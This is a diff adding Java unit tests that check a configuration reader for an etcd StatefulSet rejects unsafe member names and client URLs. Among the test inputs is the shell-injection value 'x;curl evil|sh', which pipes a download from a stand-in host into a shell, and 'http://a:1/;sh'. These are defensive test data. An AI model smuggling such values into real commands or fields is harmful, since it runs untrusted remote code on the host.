@@ -55,6 +55,36 @@ class SetMembersTest {
         .hasMessageContaining("under members in quorate.yml");
   }
 
+  /** People paste commands with the name of a member into a shell. */
+  @Test
+  void refusesANameThatNoConfigurationMayHave() {
+    for (String name : List.of("x;curl evil|sh", " ", "a=b", "$(NOT_THERE)")) {
+      String args = FLAGS.replace("--name=$(POD)", "'--name=" + name + "'");
+      assertThatThrownBy(() -> SetMembers.of(List.of(set(1, args))))
+          .as(name)
+          .isInstanceOf(Failure.Fault.class)
+          .hasMessageContaining("the template of the StatefulSet db/etcd gives etcd the name");
+    }
+  }
+
+  @Test
+  void takesNoUrlThatEtcdWouldNotTake() {
+    for (String url :
+        List.of("HTTP://a:1", "http://a:1/;sh", "http://u@a:1", "http://a", "ftp://a:1")) {
+      String args = FLAGS.replace("http://$(POD).etcd:2379", url);
+      assertThatThrownBy(() -> SetMembers.of(List.of(set(1, args))))
+          .as(url)
+          .isInstanceOf(Failure.Fault.class)
+          .hasMessageContaining("has no --advertise-client-urls that can be read");
+    }
+  }
+
+  @Test
+  void leavesOutAnAddressForMetricsThatCannotBeRead() {
+    String args = FLAGS.replace("http://0.0.0.0:2381", "a b");
+    assertThat(SetMembers.of(List.of(set(1, args))).getFirst().metricsUrl()).isEmpty();
+  }
+
   /**
    * Sixteen references of one variable to the variable before make 3e11 characters in eight steps.
    */
